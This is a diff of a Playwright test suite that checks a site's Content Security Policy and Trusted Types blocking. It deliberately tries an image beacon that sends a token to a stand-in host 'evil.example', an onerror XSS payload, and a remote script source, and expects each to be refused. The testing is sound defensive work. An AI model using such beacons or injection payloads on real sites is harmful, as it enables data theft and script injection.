@@ -29,37 +29,46 @@ test('pages have a policy that forbids inline code and eval', async ({ page }) =
   }
 });
 
-test('a violation of the policy fails every test here', async ({ page, noise }) => {
+test('a violation of the policy fails every test here: a picture carries nothing away', async ({
+  page,
+  noise,
+}) => {
   await page.goto('/');
   await page.evaluate(() => {
-    const script = document.createElement('script');
-    script.textContent = 'document.title = "breached"';
-    document.body.append(script);
+    new Image().src = 'https://evil.example/?token';
   });
-  await expect.poll(() => noise.join('\n')).toContain('policy: script-src-elem inline');
-  expect(await page.title()).not.toBe('breached');
+  await expect.poll(() => noise.join('\n')).toContain('policy: img-src https://evil.example/');
   noise.length = 0;
 });
 
-test('markup that a script writes is refused, but for drawings', async ({ page, noise }) => {
-  for (const path of ['/', '/lab']) {
-    await page.goto(path);
-    await expect(page.getByRole('banner').first()).toBeVisible();
-    const write = (markup: string) =>
-      page.evaluate((html) => {
+test.describe('a script', () => {
+  test.use({ expectedNoise: /requires 'Trusted|policy: require-trusted-types-for/ });
+
+  test('writes no markup but drawings, and no code', async ({ page }) => {
+    for (const path of ['/', '/lab']) {
+      await page.goto(path);
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      const written = await page.evaluate(() => {
+        const write = (act: () => void) => {
+          try {
+            act();
+            return 'written';
+          } catch {
+            return 'refused';
+          }
+        };
         const box = document.createElement('div');
-        try {
-          box.innerHTML = html;
-        } catch {
-          return null;
-        }
-        return box.childElementCount;
-      }, markup);
-    expect(await write('<svg/>'), path).toBe(1);
-    expect(await write('<img src="/none.png" onerror="document.title = 1">'), path).toBeNull();
-  }
-  await expect.poll(() => noise.join('\n')).toContain('policy: require-trusted-types-for');
-  noise.length = 0;
+        const script = document.createElement('script');
+        return [
+          write(() => (box.innerHTML = '<svg/>')),
+          write(() => (box.innerHTML = '<img src="/none.png" onerror="document.title = 1">')),
+          write(() => (script.textContent = 'document.title = 1')),
+          write(() => (script.src = 'https://evil.example/')),
+        ];
+      });
+      expect(written, path).toEqual(['written', 'refused', 'refused', 'refused']);
+    }
+  });
 });
 
 test('a page calls no other site', async ({ page, baseURL }) => {
